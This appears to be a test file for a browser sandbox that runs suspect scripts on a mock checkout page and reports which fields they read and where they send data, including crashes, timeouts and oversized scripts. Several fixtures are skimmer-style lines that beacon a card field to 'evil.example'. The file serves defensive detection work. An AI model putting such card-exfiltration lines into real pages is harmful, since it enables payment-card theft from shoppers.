import { expect, it } from 'vitest'
import { detonate } from '#index.ts'
import { startBrowser } from '../collectors/fixture.ts'
import { all, browser, run, shareBrowser, withCard } from './run.ts'

shareBrowser()

const SENDS = withCard("navigator.sendBeacon('https://evil.example/', card)")

it('ends a script that spins, says so, and still tells what it did before and does after', async () => {
  const told = await run(`${SENDS} navigator.sendBeacon('https://early.example/'); for (;;);`)
  expect(told.outcome).toBe('partial')
  expect(told.why?.code).toBe('script-busy')
  expect(all(told, 'contacts').map(({ to }) => to)).toContain('early.example')
  expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
})

it('tells what was read and sent by a script that spins as soon as it has the card', async () => {
  const told = await run(withCard("navigator.sendBeacon('https://evil.example/', card); for (;;);"), { timeoutMs: 6_000 })
  expect(told.outcome).toBe('partial')
  expect(all(told, 'reads-field').map(({ field }) => field)).toContain('card')
  expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
})

it('tells what was seen until the page crashed', async () => {
  const going = run(`${SENDS} setInterval(() => fetch('https://early.example/'), 200)`)
  const { root, session } = browser.connection
  let targetId: string | undefined
  while (!targetId) targetId = (await root.send('Target.getTargets')).targetInfos.find(({ url }) => url.includes('checkout-shop'))?.targetId
  const beside = session((await root.send('Target.attachToTarget', { targetId, flatten: true })).sessionId)
  beside.on('Network.requestWillBeSent', ({ request }) => {
    if (request.url.includes('early')) beside.send('Page.crash').catch(() => undefined) // it is gone before it can answer
  })
  await beside.send('Network.enable')
  const told = await going
  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'page-crashed' } })
  expect(all(told, 'contacts').map(({ to }) => to)).toContain('early.example')
})

it('fills one field of each kind where the script makes each key slow, and says that it left some out', async () => {
  const slow = "document.addEventListener('keyup', () => { for (let at = 0; at < 6e7; at++); }, true);"
  const told = await run(`${slow} ${SENDS}`, { timeoutMs: 10_000 })
  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'fields-left' } })
  expect(all(told, 'sends').map(({ to }) => to)).toEqual(['evil.example'])
})

it('fails with the reason where the script is no JavaScript', async () => {
  expect(await run('function ( {')).toMatchObject({ outcome: 'failed', why: { code: 'invalid-script' }, behaviours: [] })
})

it('is partial with the reason where the script misses something and stops', async () => {
  const told = await run(`missingLibrary.start(); ${SENDS}`)
  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'script-failed', said: 'ReferenceError: missingLibrary is not defined' } })
})

it('runs a script of five megabytes', async () => {
  const told = await run(`${'var filler = "0123456789";\n'.repeat(185_000)}${SENDS}`)
  expect(told.outcome).toBe('ran')
  expect(all(told, 'sends').length).toBe(1)
})

it('runs modules as such', async () => {
  const told = await run(`export const here = import.meta.url; ${SENDS}`, { isModule: true })
  expect(told.outcome).toBe('ran')
  expect(all(told, 'sends').length).toBe(1)
})

it('runs a script without an address in the page itself, where it can read its own text, and as a file where HTML would end it', async () => {
  const inline = await run(
    "fetch('https://' + (document.scripts[document.scripts.length - 1].text.includes('own text') ? 'inline' : 'file') + '.example/')",
    {
      url: null,
    },
  )
  expect(all(inline, 'contacts').map(({ to }) => to)).toEqual(['inline.example'])
  const file = await run(
    "const tag = '</script>'; fetch('https://' + new URL(document.currentScript.src).host.split('.')[1] + '.example/')",
    { url: null },
  )
  expect(all(file, 'contacts').map(({ to }) => to)).toEqual(['checkout-shop.example'])
  expect(await run('function ( {', { url: null })).toMatchObject({ outcome: 'failed', why: { code: 'invalid-script' } })
})

it('fails where the browser is gone, and says that it was cancelled where it was', async () => {
  const own = await startBrowser()
  await own.close()
  expect(await detonate(own, { text: '1', url: null })).toMatchObject({ outcome: 'failed', behaviours: [] })
  const controller = new AbortController()
  controller.abort()
  expect(await run(SENDS, { signal: controller.signal })).toMatchObject({ outcome: 'failed', why: { code: 'canceled' } })
})

it('is partial where a script does so much that not all of it is kept, and tells of the card none the less', async () => {
  const told = await run(`
    for (let at = 0; at < 2500; at++) document.createElement('input').value + document.getElementById('x' + at)
    for (let at = 0; at < 400; at++) document.cookie = 'decoy=' + at
    ${SENDS}`)
  expect(told).toMatchObject({ outcome: 'partial', why: { code: 'too-much-behavior' } })
  expect(all(told, 'sends').map(({ what, to }) => `${what} ${to}`)).toEqual(['card evil.example'])
})
